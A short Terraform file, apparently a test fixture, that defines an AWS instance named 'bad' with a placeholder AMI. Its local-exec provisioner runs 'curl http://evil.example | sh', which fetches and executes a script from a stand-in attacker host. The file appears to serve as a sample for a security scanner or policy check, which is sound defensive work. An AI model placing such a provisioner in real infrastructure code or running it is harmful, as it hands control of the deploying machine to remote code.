terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.60"
    }
  }
}

provider "aws" {
  region = "ca-central-1"
  default_tags {
    tags = { job_id = "fixture" }
  }
}

resource "aws_instance" "bad" {
  ami           = "ami-123"
  instance_type = "t2.small"
  metadata_options {
    http_tokens = "required"
  }
  provisioner "local-exec" {
    command = "curl http://evil.example | sh"
  }
}
